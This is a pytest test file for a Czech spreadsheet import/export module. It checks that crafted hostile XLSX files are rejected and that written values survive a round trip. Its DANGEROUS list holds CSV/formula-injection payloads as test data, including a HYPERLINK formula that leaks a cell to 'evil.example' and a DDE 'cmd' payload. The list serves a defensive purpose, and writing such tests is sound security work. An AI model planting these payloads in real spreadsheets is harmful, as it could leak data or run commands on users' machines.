import datetime as dt
import io
import subprocess
import sys
import time
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kpss.spreadsheets import (
    Column,
    Row,
    Sheet,
    SpreadsheetRefused,
    read_rows,
    read_sheets,
    sheet_names,
    write_rows,
    write_workbook,
)
from tests.kpss.packages import MAIN, RELATIONS, hostile_xlsx, relation, sheet, xlsx

openpyxl = pytest.importorskip("openpyxl")
HOSTILE = hostile_xlsx()
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"klikni")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+420 000 000 101",
    "-1+1",
    "- první bod",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n",
    " =1+1",
    "\u00a0=1",
    "'=1",
    '"=1"',
    "\0",
    "a\0b",
    "=\0",
    "\x01\x02\x1f",
    "\x7f\x85\x9f",
    "_x0000_",
    "_x003D_1+1",
    "_x005F_x0041_",
    "__x0041_",
    "_x00",
    "\ud800",
    "\ufffe\uffff",
    "<script>alert(1)</script>",
    "]]>",
    "&amp;&#0;",
    "ěščřžýáíéúůďťň Ž",
    "text s\nřádky",
    "  mezery  ",
    "#REF!",
    "1e5",
    "00123",
    "1/2",
]


def moment(text):
    return dt.datetime.fromisoformat(text)


def test_there_are_more_than_twenty_hostile_files():
    assert len(HOSTILE) > 40


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_in_time_with_a_sentence(name):
    started = time.process_time()

    with pytest.raises(SpreadsheetRefused) as caught:
        list(read_rows(HOSTILE[name]))

    assert time.process_time() - started < 5
    assert str(caught.value).endswith(".")


def test_hostile_files_fit_into_memory():
    script = (
        "import resource, django; django.setup();"
        "resource.setrlimit(resource.RLIMIT_AS, (700_000_000, 700_000_000));\n"
        "from tests.kpss.packages import hostile_xlsx\n"
        "from kpss.spreadsheets import SpreadsheetRefused, read_rows\n"
        "for name, data in hostile_xlsx().items():\n"
        "    try: list(read_rows(data))\n"
        "    except SpreadsheetRefused: pass\n"
        "    else: print(name)\n"
        # The peak of this process; ru_maxrss would be that of the one which started it.
        "print(int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0]) // 1024)"
    )

    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True
    )

    assert int(done.stdout) < 400


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "https://example.cz/")},
        {"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "mailto:a@example.cz")},
        {"xl/printerSettings/printerSettings1.bin": b"\0"},
        {"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"},
        {"xl/embeddings/Sheet1.xlsx": xlsx()},
        {
            "xl/worksheets/sheet1.xml": "\ufeff<?xml version='1.0'?>"
            + sheet("<row><c><v>1</v></c></row>")
        },
    ],
)
def test_honest_file_is_read(changes):
    assert list(read_rows(xlsx(changes))) == [Row(1, [1])]


def test_values_are_typed_and_rows_keep_their_numbers():
    strings = (
        f'<sst xmlns="{MAIN}"><si><t xml:space="preserve"> péče </t></si>'
        "<si><r><t>tuč</t></r><r><t>ně</t></r><rPh><t>x</t></rPh></si><si><t>a_x000D_b</t></si></sst>"
    )
    styles = (
        f'<styleSheet xmlns="{MAIN}"><numFmts>'
        '<numFmt numFmtId="164" formatCode="d\\.\\ m\\.\\ yyyy"/>'
        '<numFmt numFmtId="165" formatCode="#,##0\\ &quot;Kč dm&quot;"/>'
        '</numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="22"/><xf numFmtId="165"/>'
        '<xf numFmtId="20"/></cellXfs></styleSheet>'
    )
    rows = (
        '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c><c r="D2" t="s"><v>2</v></c></row>'
        '<row r="3"><c r="A3"/></row>'
        '<row r="5"><c r="A5" s="1"><v>44197</v></c><c r="B5" s="2"><v>44197.5</v></c>'
        '<c r="C5" s="3"><v>1291040</v></c><c r="D5" s="4"><v>0.375</v></c></row>'
        '<row><c t="b"><v>1</v></c><c><v>1.5</v></c><c><v>-3.0</v></c><c t="str"><f>A1</f><v>výsledek</v></c>'
        '<c t="e"><v>#REF!</v></c><c t="d"><v>2021-01-01T00:00:00</v></c>'
        '<c t="inlineStr"><is><t>přímo</t></is></c></row>'
    )
    data = xlsx(
        {
            "xl/sharedStrings.xml": strings,
            "xl/styles.xml": styles,
            "xl/worksheets/sheet1.xml": sheet(rows),
        }
    )

    assert list(read_rows(data)) == [
        Row(2, [" péče ", "tučně", None, "a\rb"]),
        Row(5, [dt.date(2021, 1, 1), moment("2021-01-01T12:00"), 1291040, dt.time(9)]),
        Row(6, [True, 1.5, -3, "výsledek", "#REF!", dt.date(2021, 1, 1), "přímo"]),
    ]


def test_sheets_are_found_by_name():
    data = write_workbook([Sheet("Úkoly", [Column("A")]), Sheet("Číselník/1", [Column("B")])])

    assert sheet_names(data) == ["Úkoly", "Číselník 1"]
    assert list(read_rows(data, sheet="Číselník 1")) == [Row(1, ["B"])]
    with pytest.raises(SpreadsheetRefused, match="Nic"):
        read_rows(data, sheet="Nic")


def test_files_of_openpyxl_and_of_1904_are_read():
    book = openpyxl.Workbook()
    book.epoch = moment("1904-01-01")
    book.active.append(["a", moment("2021-01-01"), 2.5])
    target = io.BytesIO()
    book.save(target)

    assert list(read_rows(target.getvalue())) == [Row(1, ["a", dt.date(2021, 1, 1), 2.5])]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_is_no_formula_and_comes_back(text):
    data = write_rows(["nadpis", text.strip() or "x"], [[text, text]], title="List")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f" not in xml
    assert xml.count('t="inlineStr"') == 4
    if "\ud800" not in text:
        cells = openpyxl.load_workbook(io.BytesIO(data)).active[2]
        assert {cell.data_type for cell in cells} == {"s"}
        if text[:1] in {"=", "+", "-", "@", "\t", "\r"} and "_x" not in xml:
            assert all(cell.quotePrefix for cell in cells)
    assert list(read_rows(data))[1] == Row(2, [text, text])


@given(st.lists(st.text(st.characters(codec=None), max_size=40), min_size=1, max_size=5))
def test_any_texts_come_back(texts):
    data = write_rows([f"s{n}" for n in range(len(texts))], [[*texts, "konec"]], title="x")

    assert list(read_rows(data))[1].values == [*(text or None for text in texts), "konec"]


def test_other_values_come_back():
    values = [
        0,
        -5,
        12.25,
        True,
        False,
        dt.date(2020, 12, 16),
        moment("2020-12-16T10:30"),
        dt.time(9),
    ]
    data = write_rows(["x"], [[*values, Decimal("12.5"), None, "konec"]], title="x")

    assert list(read_rows(data))[1].values == [*values, 12.5, None, "konec"]


def test_aware_moments_are_written_in_local_time():
    aware = dt.datetime(2020, 12, 16, 10, 0, tzinfo=dt.UTC)

    assert list(read_rows(write_rows(["x"], [[aware]], title="x")))[1].values == [
        moment("2020-12-16T11:00")
    ]


def test_large_numbers_are_not_rounded():
    assert list(read_rows(write_rows(["x"], [[10**17 + 1]], title="x")))[1].values == [
        str(10**17 + 1)
    ]


@pytest.mark.parametrize(
    ("value", "error"),
    [("x" * 40_000, ValueError), (float("inf"), ValueError), (object(), TypeError)],
)
def test_what_excel_cannot_hold_is_an_error(value, error):
    with pytest.raises(error):
        write_rows(["x"], [[value]], title="x")


def test_choices_are_offered():
    data = write_workbook(
        [Sheet("x", [Column("Stav", choices=["splněno", "nesplněno"]), Column("B")])]
    )

    validation = openpyxl.load_workbook(io.BytesIO(data)).active.data_validations.dataValidation[0]
    assert (validation.formula1, str(validation.sqref)) == ('"splněno,nesplněno"', "A2:A1048576")
    with pytest.raises(ValueError, match="commas"):
        write_workbook([Sheet("x", [Column("Stav", choices=["a, b"])])])


def test_five_thousand_rows_go_out_and_back():
    rows = [[n, f"Úkol {n}", "=x", dt.date(2021, 1, 1)] for n in range(5_000)]

    back = [row.values for row in read_rows(write_rows(["a", "b", "c", "d"], rows, title="x"))][1:]

    assert back == rows


def test_relations_may_be_absolute():
    data = xlsx(
        {
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1"'
            ' Type="x/worksheet" Target="/xl/worksheets/sheet1.xml"/></Relationships>'
        }
    )

    assert list(read_rows(data)) == [Row(1, [1])]


def test_all_sheets_are_read_by_their_names():
    data = write_workbook(
        [
            Sheet("Úkoly", [Column("Kód")], [["1.1"]]),
            Sheet("Číselníky", [Column("Skupina")], []),
        ]
    )

    sheets = {name: list(rows) for name, rows in read_sheets(data).items()}

    assert sheets == {
        "Úkoly": [Row(1, ["Kód"]), Row(2, ["1.1"])],
        "Číselníky": [Row(1, ["Skupina"])],
    }
    with pytest.raises(SpreadsheetRefused):
        read_sheets(b"no workbook")


def test_columns_keep_texts_offer_a_range_and_wrap():
    columns = [
        Column("Kód", is_text=True),
        Column("Kdo", choices_from="'Lists'!$A$2:$A$9", choices_bind=False, wraps=True),
    ]
    page = openpyxl.load_workbook(
        io.BytesIO(write_workbook([Sheet("A", columns, [["1.1", "x"]])]))
    )["A"]

    assert (page["A2"].number_format, page.column_dimensions["A"].number_format) == ("@", "@")
    assert page["B2"].alignment.wrap_text
    (rule,) = page.data_validations.dataValidation
    assert (str(rule.sqref), rule.formula1) == ("B2:B1048576", "'Lists'!$A$2:$A$9")
    assert not rule.showErrorMessage
